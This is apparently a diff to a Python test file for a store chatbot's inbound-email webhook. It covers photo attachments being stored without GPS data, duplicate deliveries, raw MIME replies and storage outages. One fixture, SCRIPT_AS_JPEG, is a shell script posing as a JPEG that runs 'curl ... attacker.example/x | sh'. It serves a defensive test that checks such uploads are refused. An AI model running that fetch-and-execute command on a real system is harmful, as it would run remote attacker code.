@@ -1,13 +1,15 @@
 """The inbound-mail webhook through the real gateway (aiohttp test client) over a real store database,
-on SQLite and PostgreSQL: replies become the shopper's turn, bounces and complaints suppress the
-address, and hostile forms are refused with a 4xx that stores nothing. Rasa is a stand-in."""
+on SQLite and PostgreSQL: replies become the shopper's turn (with their attached photos, through
+the chat upload's checks), bounces and complaints suppress the address, and hostile forms are
+refused with a 4xx that stores nothing. Rasa is a stand-in."""
 
 from __future__ import annotations
 
 import asyncio
 import datetime as dt
-from collections.abc import AsyncIterator
+from collections.abc import AsyncIterator, Sequence
 from dataclasses import dataclass
+from email.message import EmailMessage
 from pathlib import Path
 from typing import Any
 
@@ -20,13 +22,15 @@ from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
 
 from bot.chat.conversations import ChatSession, ConversationService
 from bot.core.config import load_settings
-from bot.core.models import Agent, Conversation, EmailInbound, Message
+from bot.core.models import Agent, Conversation, EmailInbound, Escalation, Message, Photo
 from bot.email.suppressions import is_suppressed
 from bot.email.unread_messages import EmailFollowUps
 from bot.support.accounts import AgentAccounts
+from bot.support.escalations import EscalationService
 from bot.web.app import create_app
 from bot.web.services import SERVICES
 from tests.email.test_bounces import arf, dsn
+from tests.photos.sample_images import has_gps, image_bytes, with_gps_and_orientation
 
 STORE = "yangteng-auto"
 ALEX = "alex@example.com"
@@ -367,11 +371,160 @@ async def test_a_body_larger_than_the_limit_is_refused_while_it_is_read(gateway:
     part.set_content_disposition("form-data", name="attachment1", filename="big.bin")
     status, body = await post(gateway, attachment)
     assert status == 413 and body["code"] in ("email_inbound_too_large", "email_inbound_field_too_large")
-    # A bounded attachment is read and dropped: the reply is taken.
+    # A bounded attachment is read: the reply is taken (this one, declared octet-stream, is tried as
+    # a photo and, being none, told of in the conversation).
     small = reply_form()
     part = small.append(b"%PDF-1.4 ...")
     part.set_content_disposition("form-data", name="attachment1", filename="photo.pdf")
     assert (await post(gateway, small))[0] == 200
+
+
+def with_files(writer: MultipartWriter, files: Sequence[tuple[str, str, str, bytes]]) -> MultipartWriter:
+    """The form with each (field, file name, type, bytes) as a file, as the provider posts attachments."""
+    for name, filename, content_type, data in files:
+        part = writer.append(data, {"Content-Type": content_type})
+        part.set_content_disposition("form-data", name=name, filename=filename)
+    return writer
+
+
+#: A shell script named and declared as a JPEG.
+SCRIPT_AS_JPEG = b"#!/bin/sh\ncurl -s http://attacker.example/x | sh\n"
+#: A reply with nothing new above the quote.
+QUOTE_ONLY = f"On Mon, Nov 30, 2026 at 8:01 PM Yangteng Auto <{REPLY_TO}> wrote:\r\n> Please send photos.\r\n"
+
+
+async def shopper_photos(gateway: Gateway) -> list[Photo]:
+    async with gateway.sessions() as session:
+        return list(await session.scalars(select(Photo).where(Photo.conversation_id == gateway.chat.conversation_id)))
+
+
+async def first_message(gateway: Gateway) -> Any:
+    return (await ConversationService(gateway.sessions).messages_after(gateway.chat))[0]
+
+
+async def test_a_reply_with_two_photos_lands_as_one_message_carrying_both_without_gps(gateway: Gateway) -> None:
+    case = await EscalationService(gateway.sessions).record(gateway.chat.conversation_id, "damaged", "dented pan")
+    assert case is not None
+    files = [
+        ("attachment1", "IMG_0001.JPG", "image/jpeg", with_gps_and_orientation("JPEG")),
+        ("attachment2", "label.png", "image/png", image_bytes("PNG", (640, 480))),
+    ]
+    status, body = await post(gateway, with_files(reply_form(attachments="2"), files))
+    assert status == 200 and body["result"] == "stored", body
+    assert await transcript(gateway) == [
+        ("shopper", "The oil pan leaks at the rear bolt."),
+        ("bot", "Thanks, I noted: The oil pan leaks at the rear bolt."),
+    ]
+    assert gateway.rasa.sent == ["The oil pan leaks at the rear bolt."]
+    shopper = await first_message(gateway)
+    assert shopper.attachment["type"] == "photos"
+    assert [(p["width"], p["height"]) for p in shopper.attachment["photos"]] == [(100, 200), (640, 480)]
+    rows = {photo.id: photo for photo in await shopper_photos(gateway)}
+    async with gateway.sessions() as session:
+        message_id = await session.scalar(
+            select(Message.id).where(Message.conversation_id == gateway.chat.conversation_id, Message.seq == shopper.seq)
+        )
+        case_id = await session.scalar(
+            select(Escalation.id).where(Escalation.conversation_id == gateway.chat.conversation_id)
+        )
+    # On the message that carried them and on the open case, as a chat message's photos.
+    assert [(rows[p["id"]].message_id, rows[p["id"]].escalation_id) for p in shopper.attachment["photos"]] == [
+        (message_id, case_id),
+        (message_id, case_id),
+    ]
+    photos = gateway.client.server.app[SERVICES].photos
+    for photo_id in rows:
+        kept = await photos.image(photo_id, "full", store_ids={STORE}, conversation_id=None)
+        assert kept is not None and not has_gps(kept)
+    assert gateway.emailed == [(gateway.chat.conversation_id, ["bot"], "email_answer")]
+
+
+async def test_a_script_named_jpg_is_not_taken_and_the_shopper_is_told_by_email(gateway: Gateway) -> None:
+    files = [
+        ("attachment1", "damage.jpg", "image/jpeg", SCRIPT_AS_JPEG),
+        ("attachment2", "invoice.pdf", "application/pdf", b"%PDF-1.4 ..."),
+    ]
+    status, body = await post(gateway, with_files(reply_form(attachments="2"), files))
+    assert status == 200 and body["result"] == "stored", body
+    # The words are taken; the script is not, and the store's message says so; the PDF is no photo
+    # and is dropped as before.
+    assert await transcript(gateway) == [
+        ("shopper", "The oil pan leaks at the rear bolt."),
+        ("bot", "Thanks, I noted: The oil pan leaks at the rear bolt."),
+        (
+            "store",
+            "1 attachment of your email could not be added to this conversation:\n"
+            '- "damage.jpg": the file is not an image; send a JPEG, PNG, WebP or HEIC photo.',
+        ),
+    ]
+    assert (await first_message(gateway)).attachment is None
+    assert await shopper_photos(gateway) == []
+    # The shopper is in their mail: the notice is emailed with the answer.
+    assert gateway.emailed == [(gateway.chat.conversation_id, ["bot", "store"], "email_answer")]
+
+
+async def test_a_reply_of_photos_alone_is_taken_as_a_message_of_photos(gateway: Gateway) -> None:
+    files = [("attachment1", "box.jpg", "image/jpeg", image_bytes("JPEG", (640, 480)))]
+    status, body = await post(gateway, with_files(reply_form(QUOTE_ONLY, attachments="1"), files))
+    assert status == 200 and body["result"] == "stored", body
+    assert gateway.rasa.sent == ["/share_photos"]  # what the chat sends Rasa for a message of photos alone
+    shopper = await first_message(gateway)
+    assert (shopper.sender, shopper.text, len(shopper.attachment["photos"])) == ("shopper", "", 1)
+    # Refused files alone: nothing for the turn, and the shopper is told.
+    script = [("attachment1", "damage.jpg", "image/jpeg", SCRIPT_AS_JPEG)]
+    status, body = await post(gateway, with_files(reply_form(QUOTE_ONLY, "<r2@mail.example.com>"), script))
+    assert status == 200 and body["result"] == "photos_refused", body
+    assert (await transcript(gateway))[-1][0] == "store" and len(gateway.rasa.sent) == 1
+
+
+async def test_a_retried_delivery_with_photos_adds_nothing(gateway: Gateway) -> None:
+    files = [("attachment1", "box.jpg", "image/jpeg", image_bytes("JPEG", (640, 480)))]
+    assert (await post(gateway, with_files(reply_form(), files)))[1]["result"] == "stored"
+    status, body = await post(gateway, with_files(reply_form(), files))
+    assert status == 200 and body["result"] == "duplicate"
+    assert len(await shopper_photos(gateway)) == 1
+    assert [sender for sender, _ in await transcript(gateway)] == ["shopper", "bot"] and len(gateway.rasa.sent) == 1
+
+
+async def test_a_raw_mime_reply_brings_its_photos(gateway: Gateway) -> None:
+    mail = EmailMessage()
+    mail["From"], mail["To"], mail["Subject"] = f"Alex Doe <{ALEX}>", REPLY_TO, "Re: Your order"
+    mail["Message-ID"] = "<raw-photos@mail.example.com>"
+    mail.set_content("Here is the label.")
+    mail.add_attachment(with_gps_and_orientation("JPEG"), maintype="image", subtype="jpeg", filename="label.jpg")
+    mail.add_attachment(SCRIPT_AS_JPEG, maintype="application", subtype="octet-stream", filename="also.jpg")
+    # Files the form would also carry are not read in raw mode: the MIME mail's are.
+    extra = [("attachment1", "twice.jpg", "image/jpeg", image_bytes("JPEG", (64, 48)))]
+    status, body = await post(gateway, with_files(form(email=mail.as_bytes()), extra))
+    assert status == 200 and body["result"] == "stored", body
+    said = await transcript(gateway)
+    assert said[0] == ("shopper", "Here is the label.") and said[-1][0] == "store" and '"also.jpg"' in said[-1][1]
+    [photo] = await shopper_photos(gateway)
+    kept = await gateway.client.server.app[SERVICES].photos.image(photo.id, "full", store_ids={STORE}, conversation_id=None)
+    assert kept is not None and not has_gps(kept)
+
+
+async def test_with_the_photo_storage_down_the_provider_is_asked_to_retry(
+    demo_sessions: async_sessionmaker[AsyncSession], tmp_path: Path
+) -> None:
+    await conversation_with_token(demo_sessions)
+    blocked = tmp_path / "not-a-folder"
+    blocked.write_text("a file where the photo folder should be")
+    app = create_app(
+        settings_for(tmp_path, PHOTO_STORAGE="disk", PHOTO_DIR=str(blocked)),
+        demo_sessions,
+        rasa=StandInRasa(),  # type: ignore[arg-type]
+    )
+    before = await stored_counts(demo_sessions)
+    files = [("attachment1", "box.jpg", "image/jpeg", image_bytes("JPEG", (64, 48)))]
+    async with TestClient(TestServer(app)) as client:
+        response = await client.post(URL, data=with_files(reply_form(), files))
+        # A 5xx, which SendGrid retries (a 4xx it drops), and nothing kept until then.
+        assert (response.status, (await response.json())["code"]) == (503, "photo_storage_unavailable")
+        assert response.headers["Retry-After"] == "30"
+    assert await stored_counts(demo_sessions) == before
+    async with demo_sessions() as session:
+        assert await session.scalar(select(func.count()).select_from(Photo)) == 0
 
 
 async def test_the_chats_rate_limit_applies_to_email_replies(
